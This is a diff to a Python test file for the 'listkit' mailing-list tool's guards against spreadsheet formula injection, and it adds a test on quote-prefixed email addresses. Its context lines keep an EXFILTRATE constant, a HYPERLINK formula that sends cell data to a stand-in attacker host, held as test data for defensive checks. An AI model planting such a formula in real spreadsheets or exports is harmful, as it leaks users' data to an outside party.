@@ -11,6 +11,7 @@ from conftest import run_cli
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+import listkit
 from listkit.formula import EMAIL_COLUMNS, FORMULA_TRIGGERS, formula_like_addresses, formula_safe, unguard
 
 EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
@@ -163,3 +164,13 @@ def test_only_valid_addresses_as_written_count_as_formula_like():
     assert formula_like_addresses(values).to_list() == [
         True, True, True, False, True, False, False, False, False, False, False
     ]  # fmt: skip
+
+
+def test_a_valid_address_beginning_with_a_quote_reads_back_from_an_earlier_run_unchanged(tmp_path):
+    # "'+ann@example.com" is a valid address as written: never guarded, so never unguarded either.
+    subscribers = tmp_path / "subscribers.csv"
+    subscribers.write_text("email\n'+ann@example.com\nbob@example.com\n")
+    first = tmp_path / "first"
+    listkit.export(listkit.run_files(subscribers), first, report=False)
+    again = listkit.run_files(subscribers, previous=first)
+    assert again.changes.is_empty()
